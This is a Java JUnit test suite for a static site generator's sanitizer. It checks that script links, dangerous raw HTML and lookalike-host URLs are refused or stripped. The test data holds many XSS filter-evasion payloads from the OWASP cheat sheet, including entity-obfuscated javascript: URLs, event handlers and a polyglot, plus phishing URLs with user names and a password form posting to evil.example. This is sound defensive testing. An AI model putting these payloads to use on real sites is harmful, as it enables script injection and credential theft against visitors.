package casebook.security;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

import casebook.diag.Diagnostic;
import casebook.diag.Severity;
import casebook.pipeline.Build;
import casebook.pipeline.BuildOptions;
import casebook.pipeline.BuildResult;
import casebook.safety.UrlPolicy;
import casebook.testing.SiteFixture;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;
import java.util.stream.Stream;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.MethodSource;

/**
 * Hostile links and raw HTML, one small site per case: the "script links" and "dangerous raw
 * HTML" items and the link and attribute forms of the OWASP XSS filter-evasion cheat sheet. Each case
 * asserts the outcome (an error stops the build and publishes nothing; a removal is a warning, which
 * fails the build under --strict), exactly the messages expected at the hostile file with their
 * file:line:col, and, by parsing every HTML file both of the published site and of what check and serve
 * render in memory, that nothing script-capable reaches a page ({@link PublishedHtml}).
 */
class HostileLinksTest {
    @TempDir
    Path tmp;

    enum Outcome {
        ERROR,
        WARNING,
        /** Nothing to report: the input is harmless as the parser reads it (text, or no URL), and published. */
        SAFE
    }

    /** One hostile input: the files it adds, the outcome and every message expected at the hostile file. */
    record Case(String name, String files, Outcome outcome, List<String> expected) {
        @Override
        public String toString() {
            return name;
        }
    }

    static final String PAGE = "a/index.ja.md";

    static String site(String extra) {
        return "-- site.yaml --\n" + SiteFixture.SITE_YAML + "order: [a, b]\n" + extra;
    }

    /** Page a with {@code body} starting on line 5, and page b to link to. */
    static String page(String body) {
        return site("") + "-- " + PAGE + " --\n---\ntitle: ページA\n---\n\n" + body + "\n"
                + "-- b/index.ja.md --\n---\ntitle: ページB\n---\n\n本文。\n";
    }

    static String refused(int line, int col, String url) {
        return "{a}:" + line + ":" + col + ": error: " + UrlPolicy.message("link target", url);
    }

    static String removed(int line, int col, String what) {
        return "{a}:" + line + ":" + col + ": warning: raw HTML removed: " + what;
    }

    /** A resource that would load from another site: an error (see ForeignResourcesTest). */
    static String foreign(int line, int col, String what) {
        return "{a}:" + line + ":" + col + ": error: raw HTML removed: " + what + " (" + UrlPolicy.RESOURCE_RULE + ")";
    }

    static Case error(String name, String body, String... expected) {
        return new Case(name, page(body), Outcome.ERROR, List.of(expected));
    }

    static Case warning(String name, String body, String... expected) {
        return new Case(name, page(body), Outcome.WARNING, List.of(expected));
    }

    static Case safe(String name, String body) {
        return new Case(name, page(body), Outcome.SAFE, List.of());
    }

    /** {@code c} with a picture {@code a/x.png} beside the page, so that an image in its raw HTML resolves. */
    static Case withPicture(Case c) {
        return new Case(c.name(), c.files() + "-- a/x.png --\nPNG\n", c.outcome(), c.expected());
    }

    static String invalid(int line, int col, String url) {
        return "{a}:" + line + ":" + col + ": error: link \"" + url + "\" is not a valid URL";
    }

    static Stream<Case> cases() {
        String js = "javascript:alert(1)";
        return Stream.of(
                // Script links in Markdown (the list)
                error("markdown link", "[x](javascript:alert(1))", refused(5, 1, js)),
                error("upper case scheme", "[x](JAVASCRIPT:alert(1))", refused(5, 1, "JAVASCRIPT:alert(1)")),
                error("mixed case scheme", "[x](JaVaScRiPt:alert(1))", refused(5, 1, "JaVaScRiPt:alert(1)")),
                error("angle-bracket destination", "[x](<javascript:alert(1)>)", refused(5, 1, js)),
                error("autolink", "<javascript:alert(1)>", refused(5, 1, js)),
                error(
                        "&Tab; inside the scheme",
                        "[x](java&Tab;script:alert(1))",
                        refused(5, 1, js)), // Flexmark decodes &Tab; to nothing
                error(
                        "&NewLine; inside the scheme",
                        "[x](java&NewLine;script:alert(1))",
                        refused(5, 1, "java\nscript:alert(1)")),
                error("decimal entity", "[x](&#106;avascript:alert(1))", refused(5, 1, js)),
                error(
                        "entities without semicolons, leading zeros",
                        "[x](&#0000106&#0000097vascript:alert(1))",
                        refused(5, 1, "&#0000106&#0000097vascript:alert(1)")),
                error("image", "![x](javascript:alert(1))", refused(5, 1, js)),
                error("vbscript", "[x](vbscript:msgbox(1))", refused(5, 1, "vbscript:msgbox(1)")),
                error("livescript", "[x](livescript:alert(1))", refused(5, 1, "livescript:alert(1)")),
                error(
                        "data: text/html",
                        "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
                        refused(5, 1, "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==")),
                error("file:", "[x](file:///etc/passwd)", refused(5, 1, "file:///etc/passwd")),
                error("link inside a paragraph", "本文 [x](javascript:alert(1)) 本文", refused(5, 4, js)),
                error("reference link", "[x][r]\n\n[r]: javascript:alert(1)", refused(7, 6, js)),
                error(
                        "reference image",
                        "![x][r]\n\n[r]: data:image/svg+xml,%3Csvg%20onload=alert(1)%3E",
                        refused(7, 6, "data:image/svg+xml,%3Csvg%20onload=alert(1)%3E")),
                error(
                        "link inside an HTML block's Markdown",
                        "<div>\n\n[x](javascript:alert(1))\n\n</div>",
                        refused(7, 1, js)),
                // Links to another host disguised as relative ones (the browser reads \ as /, drops tabs)
                error("protocol-relative link", "[a](//evil.example/x)", refused(5, 1, "//evil.example/x")),
                error("/\\ link", "[a](/\\evil.example)", refused(5, 1, "/\\evil.example")),
                error("/// link", "[a](///evil.example)", refused(5, 1, "///evil.example")),
                error("raw href /\\", "<a href=\"/\\evil.example\">x</a>", refused(5, 10, "/\\evil.example")),
                error("raw href \\\\", "<a href=\"\\\\evil.example\">x</a>", refused(5, 10, "\\\\evil.example")),
                error("raw href tab /\\", "<a href=\"\t/\\evil.example\">x</a>", refused(5, 10, "\t/\\evil.example")),
                // Script links in raw HTML attributes
                error("raw href", "<a href=\"javascript:alert(1)\">x</a>", refused(5, 10, js)),
                error(
                        "raw href with &Tab;",
                        "<a href=\"java&Tab;script:alert(1)\">x</a>",
                        refused(5, 10, "java\tscript:alert(1)")),
                error(
                        "raw href with &NewLine;",
                        "<a href=\"java&NewLine;script:alert(1)\">x</a>",
                        refused(5, 10, "java\nscript:alert(1)")),
                error(
                        "raw href jav&#x09;ascript",
                        "<a href=\"jav&#x09;ascript:alert(1)\">x</a>",
                        refused(5, 10, "jav\tascript:alert(1)")),
                error(
                        "raw href &#x0A;",
                        "<a href=\"jav&#x0A;ascript:alert(1)\">x</a>",
                        refused(5, 10, "jav\nascript:alert(1)")),
                error(
                        "raw href &#x0D;",
                        "<a href=\"jav&#x0D;ascript:alert(1)\">x</a>",
                        refused(5, 10, "jav\rascript:alert(1)")),
                error(
                        "raw href hex entities",
                        "<a href=\"&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3A;alert(1)\">x</a>",
                        refused(5, 10, js)),
                error(
                        "raw href hex without semicolons",
                        "<a href=\"&#x6A&#x61vascript:alert(1)\">x</a>",
                        refused(5, 10, js)),
                error(
                        "raw href decimal without semicolons",
                        "<a href=\"&#106&#97&#118&#97&#115&#99&#114&#105&#112&#116&#58alert(1)\">x</a>",
                        refused(5, 10, js)),
                error(
                        "raw href leading zeros",
                        "<a href=\"&#0000106&#0000097&#0000118&#0000097script:alert(1)\">x</a>",
                        refused(5, 10, js)),
                error("raw href &colon;", "<a href=\"javascript&colon;alert(1)\">x</a>", refused(5, 10, js)),
                error(
                        "raw href leading spaces and control",
                        "<a href=\" &#14;  javascript:alert(1)\">x</a>",
                        refused(5, 10, " \u000e  " + js)),
                error(
                        "raw href vbscript",
                        "<a href=\"vbscript:msgbox(1)\">x</a>",
                        refused(5, 10, "vbscript:msgbox(1)")),
                error(
                        "raw href data:",
                        "<a href=\"data:text/html,&lt;script&gt;alert(1)&lt;/script&gt;\">x</a>",
                        refused(5, 10, "data:text/html,<script>alert(1)</script>")),
                error(
                        "raw img src, upper case",
                        "<IMG SRC=\"JAVASCRIPT:alert('XSS')\" ALT=\"x\">",
                        refused(5, 11, "JAVASCRIPT:alert('XSS')")),
                error(
                        "raw img src unquoted",
                        "<img src=JaVaScRiPt:alert(1) alt=x>",
                        refused(5, 10, "JaVaScRiPt:alert(1)")),
                error(
                        "inline raw href in a paragraph",
                        "本文 <a href=\"javascript:alert(1)\">x</a> 本文",
                        refused(5, 13, js)),
                error(
                        "svg a xlink:href",
                        "<svg><a xlink:href=\"javascript:alert(1)\"><text x=\"20\" y=\"20\">XSS</text></a></svg>",
                        removed(5, 1, "<svg>"),
                        refused(5, 21, js),
                        removed(5, 42, "<text>")),
                error(
                        "math a xlink:href",
                        "<math><a xlink:href=\"javascript:alert(1)\">x</a></math>",
                        removed(5, 1, "<math>"),
                        refused(5, 22, js)),
                error(
                        "table background",
                        "<table background=\"javascript:alert(1)\"><tr><td>x</td></tr></table>",
                        refused(5, 20, js)),
                error(
                        "iframe src",
                        "<iframe src=\"javascript:alert(1)\"></iframe>",
                        removed(5, 1, "<iframe>"),
                        refused(5, 14, js)),
                error(
                        "form formaction",
                        "<form><button formaction=\"javascript:alert(1)\">x</button></form>",
                        removed(5, 1, "<form>"),
                        removed(5, 7, "<button>"),
                        refused(5, 27, js)),
                error("data.yaml value with a Markdown link", "{{data.link}}", refused(5, 1, js)),
                // a problem inside a data value is reported at its reference: the column as written
                error("data.yaml value with raw HTML", "{{data.html}}", refused(5, 1, js)),
                new Case(
                        "site.yaml portal",
                        page("本文。").replace("order: [a, b]\n", "order: [a, b]\nportal: \"javascript:alert(1)\"\n"),
                        Outcome.ERROR,
                        List.of("{site}:7:9: error: " + UrlPolicy.message("portal", js))),
                new Case(
                        "site.yaml base_url",
                        page("本文。").replace("order: [a, b]\n", "order: [a, b]\nbase_url: \" JAVASCRIPT:alert(1)\"\n"),
                        Outcome.ERROR,
                        List.of("{site}:7:11: error: " + UrlPolicy.message("base_url", " JAVASCRIPT:alert(1)"))),
                // Dangerous raw HTML (the list and the cheat sheet's element and attribute forms)
                warning("script block", "<script>alert(1)</script>", removed(5, 1, "<script>")),
                warning("script inside a div", "<div><script>alert(1)</script></div>", removed(5, 6, "<script>")),
                warning("inline script", "本文 <script>alert(1)</script> 本文", removed(5, 4, "<script>")),
                warning("split script tag", "<scr<script>ipt>alert(1)</script>", removed(5, 5, "<script>")),
                error(
                        "img onerror",
                        "<img src=\"https://example.jp/x.png\" alt=\"\" onerror=\"alert(1)\">",
                        foreign(5, 11, "src=\"https://example.jp/x.png\" from <img>"),
                        removed(5, 44, "onerror=\"alert(1)\" from <img>")),
                warning(
                        "svg animate",
                        "<svg><animate onbegin=\"alert(1)\" attributeName=\"x\" dur=\"1s\"></animate></svg>",
                        removed(5, 1, "<svg>"),
                        removed(5, 6, "<animate>")),
                warning(
                        "xlink:href on an a",
                        "<a xlink:href=\"https://example.jp/\">x</a>",
                        removed(5, 4, "xlink:href=\"https://example.jp/\" from <a>")),
                warning("base href", "<base href=\"https://evil.example/\">", removed(5, 1, "<base>")),
                warning(
                        "meta refresh",
                        "<meta http-equiv=\"refresh\" content=\"0;url=https://evil.example/\">",
                        removed(5, 1, "<meta>")),
                warning(
                        "form with a password field",
                        "<form action=\"https://evil.example/steal\" method=\"post\"><input type=\"password\" name=\"p\"><button>送信</button></form>",
                        removed(5, 1, "<form>"),
                        removed(5, 57, "<input>"),
                        removed(5, 89, "<button>")),
                error(
                        "external stylesheet",
                        "<link rel=\"stylesheet\" href=\"https://evil.example/x.css\">",
                        removed(5, 1, "<link>"),
                        foreign(5, 30, "href=\"https://evil.example/x.css\" from <link>")),
                warning("style element", "<style>body{display:none}</style>", removed(5, 1, "<style>")),
                warning(
                        "style url(javascript:)",
                        "<div style=\"background:url(javascript:alert(1))\">x</div>",
                        removed(5, 6, "style=\"background:url(javascript:alert(1))\" from <div>")),
                warning(
                        "style expression()",
                        "<p style=\"width: expression(alert(1))\">x</p>",
                        removed(5, 4, "style=\"width: expression(alert(1))\" from <p>")),
                warning(
                        "iframe srcdoc",
                        "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
                        removed(5, 1, "<iframe>")),
                error(
                        "object data",
                        "<object data=\"https://evil.example/x.swf\"></object>",
                        removed(5, 1, "<object>"),
                        foreign(5, 15, "data=\"https://evil.example/x.swf\" from <object>")),
                error(
                        "embed src",
                        "<embed src=\"https://evil.example/x.swf\">",
                        removed(5, 1, "<embed>"),
                        foreign(5, 13, "src=\"https://evil.example/x.swf\" from <embed>")),
                warning("body onload", "<body onload=\"alert(1)\">", removed(5, 1, "<body>")),
                warning("input autofocus onfocus", "<input autofocus onfocus=\"alert(1)\">", removed(5, 1, "<input>")),
                warning(
                        "onclick on a paragraph",
                        "<p onclick=\"alert(1)\">x</p>",
                        removed(5, 4, "onclick=\"alert(1)\" from <p>")),
                warning(
                        "inline onmouseover split over tags",
                        "前 <span onmouseover=\"alert(1)\">中</span> 後",
                        removed(5, 9, "onmouseover=\"alert(1)\" from <span>")),
                warning(
                        "a with an allowed href and a handler",
                        "<a href=\"https://example.jp/\" onclick=\"alert(1)\">x</a>",
                        removed(5, 31, "onclick=\"alert(1)\" from <a>")),
                warning(
                        "details ontoggle",
                        "<details open ontoggle=\"alert(1)\">x</details>",
                        removed(5, 1, "<details>")),
                warning(
                        "video source onerror",
                        "<video><source onerror=\"alert(1)\"></video>",
                        removed(5, 1, "<video>"),
                        removed(5, 8, "<source>")),
                // the <p> inside keeps the parser from closing the <noscript>: what follows would go into it
                error(
                        "noscript",
                        "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\"></noscript>",
                        "{a}:5:1: error: <noscript> is not closed in this piece of raw HTML",
                        removed(5, 1, "<noscript>"),
                        // its start tag is published as text, so the end tag closes nothing and is dropped
                        removed(5, 62, "</noscript>")),
                warning("marquee", "<marquee>x</marquee>", removed(5, 1, "<marquee>")));
    }

    /**
     * The forms tried in the second audit (the rest of the cheat sheet's link and attribute forms, elements that
     * load or link, and addresses with a user name before the host): each was already refused or cleaned, except
     * the user-name forms, which were published as working links before {@code UrlPolicy} refused them.
     */
    static Stream<Case> moreCases() {
        String js = "javascript:alert(1)";
        String phish = "https://www.mhlw.go.jp@evil.example/";
        return Stream.of(
                // entity and character tricks inside the scheme
                error(
                        "NUL byte inside a Markdown link's scheme",
                        "[x](java\u0000script:alert(1))",
                        invalid(5, 1, "java\ufffdscript:alert(1)")),
                error(
                        "hex entity without semicolon eats the next letter",
                        "<a href=\"jav&#x09ascript:alert(1)\">x</a>",
                        invalid(5, 10, "jav\u0161script:alert(1)")),
                error("&#58 without semicolon", "<a href=\"javascript&#58alert(1)\">x</a>", refused(5, 10, js)),
                error(
                        "&#x3A without semicolon eats the next letter",
                        "<a href=\"javascript&#x3Aalert(1)\">x</a>",
                        "{a}:5:10: error: link \"javascript\u03aalert(1)\" does not resolve"),
                error(
                        "&#1; before the scheme",
                        "<a href=\"&#1;javascript:alert(1)\">x</a>",
                        refused(5, 10, "\u0001javascript:alert(1)")),
                error("&#X6A; with a capital X", "<a href=\"&#X6A;avascript:alert(1)\">x</a>", refused(5, 10, js)),
                error(
                        "no-break space before the scheme",
                        "<a href=\"\u00a0javascript:alert(1)\">x</a>",
                        refused(5, 10, "\u00a0javascript:alert(1)")),
                error(
                        "zero-width space inside the scheme",
                        "<a href=\"java\u200bscript:alert(1)\">x</a>",
                        refused(5, 10, "java\u200bscript:alert(1)")),
                error(
                        "full-width letters",
                        "<a href=\"\uff4a\uff41\uff56\uff41\uff53\uff43\uff52\uff49\uff50\uff54:alert(1)\">x</a>",
                        invalid(5, 10, "\uff4a\uff41\uff56\uff41\uff53\uff43\uff52\uff49\uff50\uff54:alert(1)")),
                // URL attributes of allowed elements and of elements that load or link
                error("blockquote cite", "<blockquote cite=\"javascript:alert(1)\">x</blockquote>", refused(5, 19, js)),
                error("q cite", "<q cite=\"javascript:alert(1)\">x</q>", refused(5, 10, js)),
                error("del cite", "<del cite=\"javascript:alert(1)\">x</del>", refused(5, 12, js)),
                error(
                        "map area href",
                        "<map name=\"m\"><area href=\"javascript:alert(1)\" alt=\"a\"></map>",
                        removed(5, 1, "<map>"),
                        removed(5, 15, "<area>"),
                        refused(5, 27, js)),
                withPicture(error(
                        "img longdesc",
                        "<img src=\"x.png\" alt=\"a\" longdesc=\"javascript:alert(1)\">",
                        refused(5, 36, js))),
                withPicture(error(
                        "img dynsrc and lowsrc",
                        "<img src=\"x.png\" alt=\"a\" dynsrc=\"javascript:alert(1)\" lowsrc=\"javascript:alert(1)\">",
                        refused(5, 34, js),
                        refused(5, 63, js))),
                withPicture(error(
                        "img srcset",
                        "<img src=\"x.png\" alt=\"a\" srcset=\"javascript:alert(1) 1x\">",
                        refused(5, 34, js + " 1x"))),
                withPicture(error(
                        "picture source srcset",
                        "<picture><source srcset=\"javascript:alert(1)\"><img src=\"x.png\" alt=\"a\"></picture>",
                        removed(5, 1, "<picture>"),
                        removed(5, 10, "<source>"),
                        refused(5, 26, js))),
                error(
                        "video poster",
                        "<video poster=\"javascript:alert(1)\"></video>",
                        removed(5, 1, "<video>"),
                        refused(5, 16, js)),
                error(
                        "svg use href data:",
                        "<svg><use href=\"data:image/svg+xml;base64,PHN2Zz48L3N2Zz4=#x\"></use></svg>",
                        removed(5, 1, "<svg>"),
                        removed(5, 6, "<use>"),
                        refused(5, 17, "data:image/svg+xml;base64,PHN2Zz48L3N2Zz4=#x")),
                error(
                        "math href",
                        "<math href=\"javascript:alert(1)\">x</math>",
                        removed(5, 1, "<math>"),
                        refused(5, 13, js)),
                withPicture(error(
                        "script link around a picture",
                        "<a href=\"javascript:alert(1)\"><img src=\"x.png\" alt=\"a\"></a>",
                        refused(5, 10, js))),
                error(
                        "script link nested in a link",
                        "<a href=\"https://example.jp/\"><a href=\"javascript:alert(1)\">x</a></a>",
                        refused(5, 40, js),
                        removed(5, 66, "</a>")),
                // attributes a link or the page may not have
                warning(
                        "a ping",
                        "<a href=\"https://example.jp/\" ping=\"https://evil.example/track\">x</a>",
                        removed(5, 31, "ping=\"https://evil.example/track\" from <a>")),
                warning(
                        "a target=_blank without rel",
                        "<a href=\"https://example.jp/\" target=\"_blank\">x</a>",
                        removed(5, 31, "target=\"_blank\" from <a>")),
                warning(
                        "a rel=opener and download",
                        "<a href=\"https://example.jp/\" rel=\"opener\" download=\"x.exe\">x</a>",
                        removed(5, 31, "rel=\"opener\" from <a>"),
                        removed(5, 44, "download=\"x.exe\" from <a>")),
                warning(
                        "meta Content-Security-Policy in the body",
                        "<meta http-equiv=\"Content-Security-Policy\" content=\"script-src *\">",
                        removed(5, 1, "<meta>")),
                warning(
                        "template holding a handler",
                        "<template><b onclick=\"alert(1)\">x</b></template>",
                        removed(5, 1, "<template>"),
                        removed(5, 14, "onclick=\"alert(1)\" from <b>")),
                warning(
                        "handler name ending in a vertical tab",
                        "<a href=\"../b/index.html\" onclick\u000b=alert(1)>x</a>",
                        removed(5, 27, "onclick=\"alert(1)\" from <a>")),
                withPicture(warning(
                        "style with an escaped expression",
                        "<img src=\"x.png\" alt=\"a\" style=\"x:\\65xpression(alert(1))\">",
                        removed(5, 26, "style=\"x:\\65xpression(alert(1))\" from <img>"))),
                warning(
                        "ruby rt onclick",
                        "<ruby>漢<rt onclick=\"alert(1)\">かん</rt></ruby>",
                        removed(5, 12, "onclick=\"alert(1)\" from <rt>")),
                warning(
                        "a repeated attribute hiding a handler",
                        "<span title=\"a\" title=\"b\" onmouseover=\"alert(1)\">x</span>",
                        removed(5, 27, "onmouseover=\"alert(1)\" from <span>")),
                warning(
                        "body with punctuation in the handler's name",
                        "<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^`=alert(1)>",
                        removed(5, 1, "<body>")),
                warning(
                        "IMG with quotes then SCRIPT",
                        "<IMG \"\"\"><SCRIPT>alert(1)</SCRIPT>\">",
                        removed(5, 10, "<script>")),
                warning(
                        "slash instead of a space before a handler",
                        "<span/onmouseover=alert(1)>x</span>",
                        removed(5, 29, "</span>")),
                warning(
                        "polyglot",
                        "<a href=\"javascript:/*--></title></style></textarea></script></xmp><svg/onload='+/\"/+/onmouseover=1/+/[*/[]/+alert(1)//'>\">x</a>",
                        removed(5, 26, "</title>"),
                        removed(5, 34, "</style>"),
                        removed(5, 42, "</textarea>"),
                        removed(5, 53, "</script>"),
                        removed(5, 62, "</xmp>"),
                        removed(5, 125, "</a>")),
                // harmless as the parser reads them: text, a comment, or a title that is no URL
                safe("img with slashes between attributes", "<img/src=\"x.png\"/alt=\"a\"/onerror=alert(1)>"),
                safe("conditional comment", "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->"),
                safe("a title that reads like a script link", "<abbr title=\"javascript:alert(1)\">x</abbr>"),
                // a user name or password before the host: refused since this audit (before: published as links)
                error("user name before the host", "[x](" + phish + ")", refused(5, 1, phish)),
                error(
                        "password in an autolink",
                        "<https://user:secret@intranet.example/>",
                        refused(5, 1, "https://user:secret@intranet.example/")),
                error(
                        "raw href with &#64;",
                        "<a href=\"https://www.mhlw.go.jp&#64;evil.example/\">x</a>",
                        refused(5, 10, phish)),
                error(
                        "reference definition with a password",
                        "[x][r]\n\n[r]: https://a:b@evil.example/",
                        refused(7, 6, "https://a:b@evil.example/")),
                error("image with a user name", "![x](" + phish + "p.png)", refused(5, 1, phish + "p.png")),
                new Case(
                        "site.yaml portal with a user name",
                        page("本文。").replace("order: [a, b]\n", "order: [a, b]\nportal: \"" + phish + "\"\n"),
                        Outcome.ERROR,
                        List.of("{site}:7:9: error: " + UrlPolicy.message("portal", phish))));
    }

    @ParameterizedTest(name = "{0}")
    @MethodSource({"cases", "moreCases"})
    void hostileInputNeverReachesAPage(Case c) throws Exception {
        Path content = SiteFixture.write(tmp.resolve("content"), c.files());
        if (c.name().startsWith("data.yaml")) {
            SiteFixture.write(
                    content,
                    "-- a/data.yaml --\nlink: \"[x](javascript:alert(1))\"\nhtml: \"<a href='javascript:alert(1)'>x</a>\"\n");
        }
        Path out = tmp.resolve("site");
        BuildResult r = SiteFixture.build(content, out);
        String messages = SiteFixture.messages(r);
        String page = content.resolve(PAGE).toString().replace('\\', '/');
        String site = content.resolve("site.yaml").toString().replace('\\', '/');
        List<String> expected = c.expected().stream()
                .map(e -> e.replace("{a}", page).replace("{site}", site))
                .toList();
        for (String e : expected) {
            assertTrue(messages.contains(e), "expected\n" + e + "\nin\n" + messages);
        }
        // nothing else is reported about the hostile files: every report above, and no removal that did not happen
        List<Diagnostic> here = r.diagnostics().kept().stream()
                .filter(d -> d.severity() != Severity.NOTE)
                .filter(d -> d.toString().startsWith(page + ":") || d.toString().startsWith(site + ":"))
                .toList();
        assertEquals(expected.size(), here.size(), messages);
        if (c.outcome() == Outcome.ERROR) {
            assertTrue(r.diagnostics().hasErrors(), messages);
            assertFalse(Files.exists(out.resolve("ja/a/index.html")), "a build with errors publishes nothing");
        } else {
            assertFalse(r.diagnostics().hasErrors(), messages);
            assertTrue(here.stream().allMatch(d -> d.severity() == Severity.WARNING), messages);
            assertEquals(c.outcome() == Outcome.WARNING, r.failed(true), "a removal fails the build under --strict");
            assertTrue(r.published());
            PublishedHtml.assertNothingScriptCapable(out);
        }
        // what check and the preview server render, errors or not
        BuildResult memory = Build.run(BuildOptions.defaults()
                .withContent(content)
                .withOut(tmp.resolve("memory"))
                .withWrite(false));
        PublishedHtml.assertNothingScriptCapable(memory.output().files());
    }
}
